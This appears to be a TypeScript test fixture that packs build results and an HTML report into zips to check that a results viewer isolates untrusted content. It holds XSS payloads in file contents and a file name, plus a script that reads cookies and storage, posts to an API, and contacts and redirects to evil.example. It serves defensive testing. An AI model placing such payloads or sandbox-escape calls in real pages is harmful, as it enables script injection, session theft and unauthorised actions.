import { zipOf } from "../../simulator/zip";

/** A picture of 2 × 1 pixels. */
export const png = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAIAAAABCAYAAAD0In+KAAAAD0lEQVR4nGP4z8DwH4QBEfcD/eD6FvYAAAAASUVORK5CYII=",
  "base64",
);

const junit = `<?xml version="1.0"?>
<testsuites>
  <testsuite name="cart.test.ts">
    <testcase name="adds up" classname="cart" time="0.012"/>
    <testcase name="rounds half up" classname="cart" time="1.2">
      <failure message="expected 2.35 to be 2.34 &lt;img src=x onerror=pwn()&gt;"><![CDATA[at cart.test.ts:42 <script>pwn()</script>]]></failure>
    </testcase>
  </testsuite>
  <testsuite name="pay.test.ts"><testcase name="pays" time="0.5"/><testcase name="pays in yen"><skipped message="no rates"/></testcase></testsuite>
</testsuites>`;

/** What a build leaves behind, each kind of file once. */
export const results = zipOf({
  "junit.xml": junit,
  "README.md":
    "# Results\n\nAll *well*.\n\n<script>pwn()</script><img src=x onerror=pwn()>\n\n[go](javascript:pwn())",
  "logs/build/out.txt": `${Array.from({ length: 3000 }, (_, n) => `line ${n + 1}`).join("\n")}\n`,
  "logs/colour.log": "\u001b[31mred words\u001b[0m <b>not bold</b>\n",
  "data/facts.json": JSON.stringify({ name: "<img src=x onerror=pwn()>", list: [1, 2, { deep: true }] }),
  "shots/dot.png": png,
  "shots/evil.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="pwn()"><script>pwn()</script><rect width="40" height="20" fill="red"/></svg>`,
  "<img src=x onerror=pwn()>.txt": "a name to be careful with\n",
  "tool.exe": Buffer.from([0, 1, 2, 3]),
});

/** A report that uses all that a page may use, and tries all that it may not. */
export const report = zipOf({
  "index.html": `<!doctype html><title>Report</title><link rel="stylesheet" href="assets/style.css">
<h1>Report</h1><p id="out">script did not run</p><ul id="tries"></ul><a href="more/page.html">More</a>
<img id="own" src="assets/dot.png" alt="">
<form id="form" method="post" action="/api/repos" enctype="text/plain"><input name="a" value="b"></form>
<script type="module">import { word } from "./assets/module.js"; document.documentElement.dataset.word = word;</script>
<script src="assets/report.js"></script>`,
  "more/page.html": '<!doctype html><h1>Second page</h1><a href="../index.html">Back</a>',
  "assets/style.css": "h1 { color: rgb(1, 2, 3); background: url(dot.png) }",
  "assets/dot.png": png,
  "assets/data.json": '{"tests": 7}',
  "assets/module.js": "export const word = 'module';",
  "assets/report.js": `
const say = (what, how) => {
  const line = document.createElement("li");
  line.textContent = what + ": " + how;
  document.querySelector("#tries").append(line);
};
const attempt = async (what, act) => {
  try { say(what, "did " + String(await act())); } catch (error) { say(what, "refused"); }
};
(async () => {
  document.querySelector("#out").textContent = "script ran on " + self.origin;
  await attempt("own data", async () => (await (await fetch("assets/data.json")).json()).tests);
  await attempt("parent's page", () => parent.document.title);
  await attempt("parent's name", () => { parent.pwned = 1; return "set"; });
  await attempt("cookies", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("our interface", async () => (await fetch("/api/runs")).status);
  await attempt("a write", async () => (await fetch("/api/repos", { method: "POST", mode: "no-cors", body: '{"repository":"evil/evil"}' })).type);
  await attempt("a beacon", () => { if (!navigator.sendBeacon("/api/repos", "{}")) throw 0; return "queued"; });
  await attempt("another host", async () => (await fetch("https://evil.example/")).status);
  await attempt("a socket", () => new Promise((yes, no) => { const s = new WebSocket("ws://evil.example/"); s.onopen = yes; s.onerror = no; }));
  await attempt("a picture of ours", () => new Promise((yes, no) => { const i = new Image(); i.onload = () => yes("loaded"); i.onerror = no; i.src = "/icon.svg"; }));
  await attempt("a window", () => { if (!open("https://evil.example/")) throw 0; return "opened"; });
  await attempt("a dialog", () => { if (confirm("?")) return "yes"; throw 0; });
  await attempt("the whole window", () => { top.location = "https://evil.example/"; return "asked"; });
  document.querySelector("#form").submit();
  say("all", "tried");
})();`,
});
